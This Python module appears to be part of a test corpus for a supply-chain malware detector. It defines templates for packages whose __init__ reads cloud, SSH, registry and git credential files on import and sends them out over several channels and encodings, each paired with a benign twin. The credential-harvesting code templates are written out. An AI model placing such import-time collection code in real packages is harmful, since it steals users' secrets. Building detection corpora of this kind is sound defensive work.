"""T05: collects secrets on import and sends them (MITRE ATT&CK T1552.001, T1005, T1041).

Nearly half of the classifiable campaigns fire on import. The twins read settings as boto3 and the
Kubernetes client do: their own, and nothing is sent.
"""

from __future__ import annotations

from models.phase import Phase
from tests.corpus.guard import acting
from tests.corpus.recipe import Channel, Encoding, Recipe
from tests.corpus.recipes import senders
from tests.corpus.recipes.senders import sending

COLLECT = """
found = b""
for name in ({names}):
    try:
        found += (HOME / name).read_bytes()
    except OSError:
        pass
_send(_wrap(found))
"""
CLOUD = '".aws/credentials", ".kube/config", ".config/gcloud/application_default_credentials.json"'
PUBLISHING = '".pypirc", ".npmrc", ".netrc", ".git-credentials"'
KEYS = '".ssh/id_ed25519", ".aws/credentials", "project/.env"'
LOGINS = '".docker/config.json", ".netrc", ".git-credentials"'
WALK = """
found = b""
for folder, _, names in os.walk(HOME):
    for name in names:
        path = pathlib.Path(folder, name)
        if name in ("credentials", "id_ed25519", ".npmrc", ".env"):
            found += path.read_bytes()
_send(_wrap(found))
"""
OWN_CONFIG = """
try:
    (HOME / ".config/THE_MODULE/config.toml").read_text()
except OSError:
    pass
"""
AWS_REGION = """
import configparser
configparser.ConfigParser().read(HOME / ".aws/config")
"""
PACKAGE_DATA = "pathlib.Path(__file__).read_bytes()"
LOCAL_KUBE = """
try:
    (HOME / ".kube/config").read_bytes()
except OSError:
    pass
"""

WAYS = (
    (
        "post-json",
        Channel.HTTP,
        Encoding.JSON,
        senders.HTTP,
        CLOUD,
        OWN_CONFIG,
        "reads its own settings",
    ),
    (
        "https-base64",
        Channel.HTTPS,
        Encoding.BASE64,
        senders.HTTPS,
        KEYS,
        AWS_REGION,
        "reads a region, as boto3 does",
    ),
    (
        "tls-socket-plain",
        Channel.HTTPS,
        Encoding.PLAIN,
        senders.HTTPS_SOCKET,
        PUBLISHING,
        OWN_CONFIG,
        "reads its own settings",
    ),
    (
        "query-url",
        Channel.HTTP,
        Encoding.URL,
        senders.HTTP_QUERY,
        LOGINS,
        PACKAGE_DATA,
        "reads a file of its own",
    ),
    (
        "tcp-gzip",
        Channel.TCP,
        Encoding.GZIP,
        senders.TCP,
        CLOUD,
        AWS_REGION,
        "reads a region, as boto3 does",
    ),
    ("tcp-xor", Channel.TCP, Encoding.XOR, senders.TCP, KEYS, OWN_CONFIG, "reads its own settings"),
    (
        "tcp-pieces",
        Channel.TCP,
        Encoding.PIECES,
        senders.TCP_PIECES,
        KEYS,
        PACKAGE_DATA,
        "reads a file of its own",
    ),
    (
        "udp-hex",
        Channel.UDP,
        Encoding.HEX,
        senders.UDP,
        LOGINS,
        OWN_CONFIG,
        "reads its own settings",
    ),
    (
        "dns-base32",
        Channel.DNS,
        Encoding.BASE32,
        senders.DNS,
        KEYS,
        AWS_REGION,
        "reads a region, as boto3 does",
    ),
    (
        "curl-reversed",
        Channel.PROCESS,
        Encoding.REVERSED,
        senders.CURL,
        PUBLISHING,
        OWN_CONFIG,
        "reads its own settings",
    ),
    (
        "child-zip",
        Channel.PROCESS,
        Encoding.ARCHIVE,
        senders.CHILD,
        CLOUD,
        LOCAL_KUBE,
        "reads the cluster's settings, as the Kubernetes client does",
    ),
)


def collector(name: str, channel: Channel, encoding: Encoding, code: str, twin_does: str) -> Recipe:
    """A package that acts in its `__init__`."""
    return Recipe(
        technique="T05",
        name=name,
        phase=Phase.IMPORT,
        channel=channel,
        encoding=encoding,
        files={"THE_MODULE/__init__.py": code},
        twin_does=twin_does,
    )


RECIPES = (
    *(
        collector(
            name,
            channel,
            encoding,
            acting(COLLECT.format(names=names), honest, head=sending(sender, encoding)),
            twin_does,
        )
        for name, channel, encoding, sender, names, honest, twin_does in WAYS
    ),
    collector(
        "walk-home-https",
        Channel.HTTPS,
        Encoding.ZLIB,
        acting(WALK, OWN_CONFIG, head=sending(senders.HTTPS, Encoding.ZLIB)),
        "reads its own settings",
    ),
)
